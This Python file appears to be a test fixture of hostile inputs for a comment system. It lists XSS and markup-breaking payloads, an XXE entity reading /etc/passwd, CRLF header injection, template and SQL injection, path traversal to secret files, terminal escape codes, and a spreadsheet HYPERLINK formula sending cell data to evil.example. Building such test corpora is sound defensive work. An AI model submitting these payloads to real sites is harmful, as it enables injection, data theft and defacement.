"""What strangers type to get something done that a comment should not do; each value for every place there is."""

from __future__ import annotations

MARKUP = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg/onload=alert(1)>',
    "' autofocus onfocus='alert(1)",
    "</textarea></form></section></article></main><script>alert(1)</script>",
    "</option></select><h1>owned</h1>",
    "</title></head><body onload=alert(1)>",
    "<!-- /comments:section hello --><h1>owned</h1><!-- comments:section hello 0123456789abcdef -->",
    "<!--",
    "--!><b>",
    "<b><i><q cite='x",
    '<blockquote cite="https://a.example/\n onmouseover=alert(1) x=">quoted</blockquote>',
    "<plaintext>",
    "<b>" * 1500,
]
XML = [
    "]]>",
    "<![CDATA[",
    "</content></entry></feed>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "<?xml version='1.0'?>",
    "&#0;&#x1b;&lt;script&gt;&nbsp;&amp;lt;b&amp;gt;",
    "\ufffe\uffff",
]
ADDRESSES = [
    "javascript:alert(1)",
    "JaVa\tScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "//evil.example/",
    "https://evil.example/\r\nSet-Cookie: a=b",
    "https://evil.example/%0d%0aSet-Cookie:%20a=b",
    'https://evil.example/?a="onclick="alert(1)',
    "https://evil.example/?a='&b=<b>;c",
    "https://good.example@evil.example/",
    "https://evil.example/#{{7*7}}",
    "https://evil.example/\u202egpj.exe",
]
LINES = [
    "Ann\r\nWebsite: https://evil.example/",
    "Ann\nDate: 1999-01-01",
    "Ann\rKind: pingback",
    "Ann\u2028Website: https://evil.example/",
    "Ann\u2029\x85\x0b\x0c\x1c\x1d\x1eKind: pingback",
    "\n\nAuthor: Ann\n\nI agree.",
    "Author: Ann",
]
LANGUAGES = [
    "{{7*7}} {% raw %}",
    "{% endautoescape %}{{ cycler.__init__.__globals__ }}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "%s %(author)s %n {0} {article.slug} {slug}",
    "'; DROP TABLE submissions; --",
    '=HYPERLINK("https://evil.example/?"&A1;"Ann")',
    "\\x1b\\u0000\\",
    "{|filename|../../var/queue.db} {static}/../var/secret",
]
PATHS = ["../../../../etc/passwd", "..%2f..%2fvar%2fsecret", "C:\\Windows\\win.ini", "hello/../other", "hello/", "."]
SIGNS = [
    "\x00",
    "Ann\x00<b>",
    "\x1b[2J\x1b]0;owned\x07",
    "\x1b]8;;https://evil.example/\x1b\\good\x1b]8;;\x1b\\",
    "\x9b31m\x7f\x08",
    "Ann \u202e<b>nnA</b>\u202c",
    "Ann\u2066\u200f\u200b\ufeff\u00ad\U000e0041",
    "Z\u0351\u036f\u0489" * 40,
    "\u0130\ufb03\u1e9e\u212a",
]
LENGTHS = ["x" * 246, "https://a.example/" + "x" * 300, "x " * 20_000, "\U0001f600" * 5000]

VALUES = [*MARKUP, *XML, *ADDRESSES, *LINES, *LANGUAGES, *PATHS, *SIGNS, *LENGTHS]
